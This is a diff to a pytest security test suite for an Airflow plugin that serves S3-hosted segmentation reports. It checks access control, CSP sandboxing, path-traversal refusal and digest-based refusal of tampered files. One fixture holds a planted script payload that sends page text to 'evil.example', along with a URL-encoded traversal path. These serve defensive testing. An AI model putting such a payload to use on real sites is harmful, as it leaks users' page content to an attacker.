@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
 import uuid
@@ -14,6 +15,7 @@ import pytest
 from include.segmentation_aws.published_runs import PNG_MAGIC, run_summary
 from tests.conftest import PROJECT_ROOT
 from tests.dag.conftest import api_token, http_get, http_response, record_publication, running_api_server
+from tests.published_files import legacy_summary, publish_files
 
 pytestmark = pytest.mark.slow
 
@@ -45,30 +47,42 @@ def test_airflow_lists_the_plugin_with_its_view(airflow_db, aws_env) -> None:
     assert views["dag_run"]["href"] == "/segmentation/runs/{RUN_ID}/report"
 
 
+PLANTED_REPORT = b"<script>top.location = 'https://evil.example/?' + document.body.innerText</script>"
+
+
 @pytest.fixture
 def published(airflow_db, clients) -> dict[str, str]:
-    """Two published runs in two buckets/prefixes, and planted events a hostile writer could make."""
+    """Two published runs in two buckets/prefixes, and planted events and files a hostile writer could make."""
     s3 = clients["s3"]
     bucket, other = (f"popseg-view-{uuid.uuid4().hex[:8]}" for _ in range(2))
     runs = {RUN_ID: (bucket, "segmentation/"), f"{RUN_ID}-other": (other, "teams/a/")}
+    run = {"run_id": RUN_ID, "rows": 3218, "n_components": 7, "explained_variance": 0.8017, "params": {"k": 8}}
     for run_id, (name, prefix) in runs.items():
         s3.create_bucket(Bucket=name)
-        results = f"s3://{name}/{prefix}runs/{run_id}/"
-        run = {"run_id": run_id, "rows": 3218, "n_components": 7, "explained_variance": 0.8017, "params": {"k": 8}}
-        record_publication(run_summary(run, results))
-        key = f"{prefix}runs/{run_id}/"
-        s3.put_object(Bucket=name, Key=key + "report.html", Body=f"<h1>report of {run_id}</h1>".encode())
-        s3.put_object(Bucket=name, Key=key + "plots/segment_sizes.png", Body=PNG_MAGIC + b"image")
-        # The other run's segments.csv is not a segments table: refused, not served as one.
-        table = SEGMENTS_CSV if run_id == RUN_ID else HOSTILE.encode()
-        s3.put_object(Bucket=name, Key=key + "segments.csv", Body=table)
-        s3.put_object(Bucket=name, Key=key + "plots/not_an_image.png", Body=HOSTILE.encode())
-    hostile = run_summary({**run, "run_id": "manual__hostile"}, f"s3://{bucket}/x/runs/manual__hostile/")
+        files = {
+            "report.html": f"<h1>report of {run_id}</h1>".encode(),
+            "plots/segment_sizes.png": PNG_MAGIC + b"image",
+            # The other run's segments.csv is not a segments table: refused, not served as one.
+            "segments.csv": SEGMENTS_CSV if run_id == RUN_ID else HOSTILE.encode(),
+            "plots/not_an_image.png": HOSTILE.encode(),
+        }
+        record_publication(publish_files(s3, {**run, "run_id": run_id}, f"s3://{name}/{prefix}runs/{run_id}/", files))
+    hostile = run_summary({**run, "run_id": "manual__hostile"}, f"s3://{bucket}/x/runs/manual__hostile/", {})
     record_publication({**hostile, "n_components": HOSTILE, "k": HOSTILE})  # refused: not counts
     record_publication(
-        run_summary({**run, "run_id": "manual__posted"}, f"s3://{bucket}/x/runs/manual__posted/"),
+        run_summary({**run, "run_id": "manual__posted"}, f"s3://{bucket}/x/runs/manual__posted/", {}),
         task_id="someone-else",
     )
+    # A run whose files were replaced in S3 after it published them, and a run published before digests.
+    planted = f"s3://{bucket}/segmentation/runs/manual__planted/"
+    files = {"report.html": b"<h1>the real report</h1>", "segments.csv": SEGMENTS_CSV, "plots/a.png": PNG_MAGIC}
+    record_publication(publish_files(s3, {**run, "run_id": "manual__planted"}, planted, files))
+    replaced = {"report.html": PLANTED_REPORT, "segments.csv": SEGMENTS_CSV + b"x,1,0,0\n", "plots/a.png": b"picture"}
+    for name, data in replaced.items():
+        s3.put_object(Bucket=bucket, Key=f"segmentation/runs/manual__planted/{name}", Body=data)
+    legacy = f"s3://{bucket}/segmentation/runs/manual__legacy/"
+    publish_files(s3, run, legacy, {"report.html": b"<h1>an old report</h1>"})
+    record_publication(legacy_summary({**run, "run_id": "manual__legacy"}, legacy))
     return {"bucket": bucket, "other": other}
 
 
@@ -76,6 +90,7 @@ def test_every_route_needs_read_access_to_the_dags_runs(aws_env, published, tmp_
     routes = [
         "/segmentation/",
         f"/segmentation/runs/{RUN_ID}/report",
+        f"/segmentation/runs/{RUN_ID}/report.html",
         f"/segmentation/runs/{RUN_ID}/plots/segment_sizes.png",
         f"/segmentation/runs/{RUN_ID}/segments.csv",
     ]
@@ -87,8 +102,8 @@ def test_every_route_needs_read_access_to_the_dags_runs(aws_env, published, tmp_
             assert http_get(base + route, {"Cookie": f"_token={nobody}"})[0] == 403, route
             assert http_get(base + route, {"Authorization": "Bearer not-a-token"})[0] in (401, 403), route
         for headers in ({"Authorization": f"Bearer {viewer}"}, {"Cookie": f"_token={viewer}"}):
-            assert http_get(f"{base}/segmentation/", headers)[0] == 200
-            assert http_get(f"{base}/segmentation/runs/{RUN_ID}/report", headers)[0] == 200
+            for route in routes:
+                assert http_get(base + route, headers)[0] == 200, route
         # The view's API docs are not served at all, to anyone.
         for route in ("/segmentation/docs", "/segmentation/redoc", "/segmentation/openapi.json"):
             assert http_get(base + route)[0] == 404, route
@@ -109,15 +124,24 @@ def test_a_viewer_sees_the_published_runs_and_their_reports_wherever_they_were_p
         assert "script-src" not in headers["content-security-policy"] and headers["x-content-type-options"] == "nosniff"
 
         for run_id in (RUN_ID, f"{RUN_ID}-other"):
-            status, headers, report = http_response(f"{base}/segmentation/runs/{run_id}/report", auth)
+            # The run's page: its segments.csv link, and the report in a frame of this origin only. No script.
+            status, headers, page = http_response(f"{base}/segmentation/runs/{run_id}/report", auth)
+            assert status == 200, page
+            assert f"src='/segmentation/runs/{run_id}/report.html' sandbox='allow-scripts'" in page.decode()
+            assert f"href='/segmentation/runs/{run_id}/segments.csv' download" in page.decode()
+            policy = headers["content-security-policy"]
+            assert "frame-src 'self'" in policy and "script-src" not in policy and "default-src 'none'" in policy
+            # The report itself: sandboxed, without downloads, off the network.
+            status, headers, report = http_response(f"{base}/segmentation/runs/{run_id}/report.html", auth)
             assert (status, report) == (200, f"<h1>report of {run_id}</h1>".encode())
             policy = headers["content-security-policy"]
-            assert policy.startswith("sandbox allow-scripts allow-downloads;") and "connect-src 'none'" in policy
+            assert policy.startswith("sandbox allow-scripts;") and "connect-src 'none'" in policy
+            assert "allow-downloads" not in policy and "allow-top-navigation" not in policy
             assert headers["x-content-type-options"] == "nosniff"
 
         status, headers, plot = http_response(f"{base}/segmentation/runs/{RUN_ID}/plots/segment_sizes.png", auth)
         assert (status, headers["content-type"], plot) == (200, "image/png", PNG_MAGIC + b"image")
-        # The report's relative link to segments.csv resolves here: the run's published file, as a download.
+        # The run page's segments.csv link: the run's published file, as a download.
         status, headers, table = http_response(f"{base}/segmentation/runs/{RUN_ID}/segments.csv", auth)
         assert (status, headers["content-type"], table) == (200, "text/csv; charset=utf-8", SEGMENTS_CSV)
         assert headers["content-disposition"] == 'attachment; filename="segments.csv"'
@@ -128,8 +152,34 @@ def test_a_viewer_sees_the_published_runs_and_their_reports_wherever_they_were_p
             f"/runs/{RUN_ID}/plots/not_an_image.png",
             f"/runs/{RUN_ID}/plots/missing.png",
             "/runs/manual__hostile/report",
+            "/runs/manual__hostile/report.html",
             "/runs/manual__posted/report",
             "/runs/..%2F..%2Fx/report",
         )
         for missing in refused:
             assert http_get(f"{base}/segmentation{missing}", auth)[0] == 404, missing
+
+
+def test_files_changed_in_s3_after_publishing_are_refused_with_their_reason_never_served(
+    aws_env, published, tmp_path
+) -> None:
+    with running_api_server(aws_env, tmp_path) as base:
+        auth = {"Authorization": f"Bearer {api_token(base, 'viewer')}"}
+        run = f"{base}/segmentation/runs/manual__planted"
+        # The run's page says why, and frames nothing.
+        status, _, page = http_response(f"{run}/report", auth)
+        assert status == 409 and b"<iframe" not in page and b"evil.example" not in page
+        assert re.search(r"report.html of run manual__planted is not the file the run published", page.decode())
+        for route in ("/report.html", "/segments.csv", "/plots/a.png"):
+            status, headers, body = http_response(run + route, auth)
+            assert (status, headers["content-type"]) == (409, "application/json"), route
+            assert "is not the file the run published" in json.loads(body)["detail"], route
+            assert b"evil.example" not in body and b"x,1,0,0" not in body and b"picture" not in body
+        # A run published before digests were recorded is still listed, unlinked and saying why, but serves nothing.
+        listed = http_get(f"{base}/segmentation/", auth)[1].decode()
+        assert "manual__legacy<br><small class='legacy'>published before files were checked: re-run" in listed
+        assert "/runs/manual__legacy/report" not in listed and "/runs/manual__planted/report" in listed
+        status, _, page = http_response(f"{base}/segmentation/runs/manual__legacy/report", auth)
+        assert status == 404 and "re-run it to view its report" in page.decode() and b"an old report" not in page
+        status, _, body = http_response(f"{base}/segmentation/runs/manual__legacy/report.html", auth)
+        assert status == 404 and "re-run it" in json.loads(body)["detail"]
